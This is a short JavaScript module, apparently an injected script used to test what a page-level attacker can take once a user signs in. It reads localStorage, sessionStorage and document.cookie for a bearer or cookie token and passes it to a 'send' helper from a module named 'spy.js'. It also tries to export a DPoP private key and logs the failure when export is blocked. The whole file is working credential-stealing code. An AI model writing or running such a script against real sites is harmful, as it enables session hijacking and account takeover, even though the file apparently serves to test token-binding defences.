// Looks where every script can look, and carries the first token away.
import { imported, send, tokenIn, until } from "./spy.js";

await until("signed-in");
const stored = tokenIn(JSON.stringify({ ...localStorage, ...sessionStorage }));
const notes = [];
if (document.body.dataset.dpop === "on") {
  // The key that the token is bound to can be used here, but not taken away.
  const { keyPair } = await imported("/dpop.js");
  const { privateKey } = await keyPair();
  await crypto.subtle.exportKey("jwk", privateKey).catch((error) => notes.push(`exportKey: ${error.name}`));
}
if (stored) await send({ credential: "bearer", value: stored }, notes);
else if (tokenIn(document.cookie)) await send({ credential: "cookie", value: document.cookie }, notes);
else await send(null, notes);
